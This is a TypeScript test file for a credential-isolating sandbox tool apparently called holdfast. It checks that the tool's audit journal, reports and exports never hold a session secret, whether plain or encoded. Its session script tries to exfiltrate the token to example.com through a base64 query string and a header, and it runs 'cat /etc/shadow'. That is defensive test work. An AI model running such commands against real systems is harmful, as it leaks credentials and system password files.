import { readdirSync, readFileSync } from 'node:fs';
import { once } from 'node:events';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { startReceiver } from '../src/audit/otlp/testing/receiver.ts';
import { startMachine } from './lib/machine.ts';
import { docsProject, runShell } from './lib/snippets.ts';

const secret = 'example_live_7Hq2mVx9Lk4TzB6w';
const session = `
mkdir -p ~/.config/holdfast
cat > ~/.config/holdfast/policy.toml <<'END'
version = 1
network.hosts = ["api.example.com:443", "example.com:443"]
[[credentials]]
name = "example"
source = { env = "EXAMPLE_TOKEN" }
hosts = ["api.example.com"]
inject = { kind = "bearer" }
environment = ["EXAMPLE_TOKEN"]
END
export EXAMPLE_TOKEN=${secret}
printf %s "$EXAMPLE_TOKEN" > note
holdfast run -- sh -c '
  curl -sS -H "Authorization: Bearer $EXAMPLE_TOKEN" "https://api.example.com/echo?q=1" || true
  curl -sS "https://example.com/?$(printf %s "$EXAMPLE_TOKEN" | base64)" || true
  curl -sS -H "X-Key: $(cat note)" https://example.com/ || true
  cat /etc/shadow || true'
`;

/** A secret in the clear, and in its encodings. */
const dresses: readonly string[] = [
  secret,
  Buffer.from(secret).toString('base64'),
  Buffer.from(secret).toString('hex'),
  Buffer.from(secret).toString('base64url'),
  secret.slice(8),
];

test('the journal, its index, reports and exports contain no secret of a session with credentials', {
  timeout: 120_000,
}, async () => {
  using project = docsProject();
  await using machine = await startMachine({ directory: join(project.root, 'machine') });
  const { status, stderr } = runShell({ project, machine }, session);
  expect(status, stderr).toBe(0);
  const receiver = await startReceiver();
  const outputs = new Map<string, string>();
  for (const argv of [
    ['show'],
    ['query', '--limit', '1000'],
    ['query', '--json'],
    ['tail', '-n', '1000'],
    ['report'],
    ['report', '--format', 'html'],
    ['export'],
    ['export', '--format', 'csv'],
    ['export', '--otlp', receiver.url],
    ['verify'],
  ]) {
    const child = project.start(['audit', ...argv]);
    let text = '';
    for (const stream of [child.stdout, child.stderr]) stream.on('data', (data: Buffer) => (text += data.toString()));
    const [code] = (await once(child, 'close')) as [number];
    expect(code, text).toBe(0);
    outputs.set(argv.join(' '), text);
  }
  outputs.set('OTLP', receiver.received.map(({ body }) => body).join('\n'));
  for (const name of readdirSync(project.state).filter((file) => file.startsWith('journal')))
    outputs.set(name, readFileSync(join(project.state, name), 'latin1'));

  expect([...outputs.keys()]).toEqual(expect.arrayContaining(['journal.jsonl', 'journal.db', 'OTLP']));
  // The entries contain the credential's name, the alarm and the refusal.
  for (const name of ['show', 'query --limit 1000', 'report', 'report --format html', 'export --format csv', 'OTLP'])
    expect(outputs.get(name), name).toMatch(/example[^]*phantom-unbound|phantom-unbound[^]*example/u);
  for (const [name, text] of outputs)
    for (const dress of dresses)
      expect(text.includes(dress), `${name} holds the secret as ${dresses.indexOf(dress)}`).toBe(false);
});
